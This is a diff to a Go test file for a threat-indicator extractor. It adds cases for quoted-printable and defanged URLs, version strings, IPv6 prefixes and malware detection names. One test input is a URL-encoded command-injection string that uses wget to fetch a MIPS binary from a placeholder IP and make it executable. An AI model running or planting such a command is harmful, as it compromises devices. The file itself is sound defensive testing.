@@ -54,8 +54,9 @@ var contexts = []struct {
 		return "| # | indicator | note |\n|---|---|---|\n| 1 | " + s + " | seen |\n", true
 	}},
 	{"json", func(s string) (string, bool) {
-		if strings.Contains(s, `\`) {
-			// Escaping the probe's own backslashes would change what it means.
+		if strings.Contains(s, `\`) || strings.Contains(s, "\n") || strings.Contains(s, "&amp;") {
+			// Escaping the probe's own backslashes, line breaks or entities
+			// would change what it means.
 			return "", false
 		}
 		b, err := json.Marshal(map[string]string{"indicator": s})
@@ -158,6 +159,15 @@ var extractCases = []struct {
 	{"http[:/]/example.com/path", urlRow("http://example.com/path", "example.com")},
 	{"http://example.com[/]a[/]b", urlRow("http://example.com/a/b", "example.com")},
 	{"user@exa[.]mple(.)co{.}uk", []pair{em("user@exa.mple.co.uk"), d("exa.mple.co.uk")}},
+
+	// What realistic documents add.
+	{"href=3D\"https://invoice-secure-d=\nocs.com/view\"", urlRow("https://invoice-secure-docs.com/view", "invoice-secure-docs.com")},
+	{"Chrome/131.0.0.0 and build 2.7.1.0", nil},
+	{"$(cd%20/tmp;%20wget%20http://203.0.113.201/bins/mips;%20chmod%20777%20mips)", []pair{u("http://203.0.113.201/bins/mips"), v4("203.0.113.201")}},
+	{"http://a.example.com/?a=1&amp;b=2", urlRow("http://a.example.com/?a=1&b=2", "a.example.com")},
+	{"+++hxxp://203.0.113[.]45/s.php+++", []pair{u("http://203.0.113.45/s.php"), v4("203.0.113.45")}},
+	{"2001:db8:4f1a::/48", []pair{{IPv6, "2001:db8:4f1a::"}}},
+	{"Trojan:Win32/Emotet.AD!MTB", nil},
 }
 
 func TestExtractRows(t *testing.T) {
